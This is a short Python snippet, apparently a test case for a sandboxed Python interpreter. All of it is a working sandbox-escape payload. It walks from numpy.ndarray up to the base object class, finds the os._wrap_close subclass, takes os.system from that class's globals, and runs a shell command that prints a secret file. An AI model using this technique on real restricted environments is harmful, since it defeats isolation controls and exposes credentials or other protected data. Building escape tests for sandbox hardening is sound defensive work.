# The methods of an array class lead to object as any class does.
# effect: run
# tree: scientific
import numpy
kinds = {kind.__name__: kind for kind in numpy.ndarray.mro()[-1].__subclasses__()}
kinds["_wrap_close"].close.__globals__["system"]("cat @SECRET@")
